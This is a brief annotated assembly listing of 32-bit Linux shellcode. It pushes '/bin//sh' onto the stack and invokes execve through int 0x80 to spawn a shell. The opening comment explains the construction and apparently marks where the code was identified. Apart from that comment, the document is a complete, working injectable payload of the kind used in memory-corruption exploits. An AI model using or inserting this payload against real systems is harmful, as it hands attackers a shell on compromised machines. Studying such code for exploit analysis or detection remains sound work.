; execve("/bin//sh", ["/bin//sh"], NULL), Linux i386, no GetPC: the string is
; built on the stack. Found by the system call site (int 0x80, eax = 11).
BITS 32
    xor eax, eax
    push eax
    push 0x68732f2f             ; "//sh"
    push 0x6e69622f             ; "/bin"
    mov ebx, esp
    push eax
    push ebx
    mov ecx, esp
    xor edx, edx
    mov al, 11                  ; execve
    int 0x80
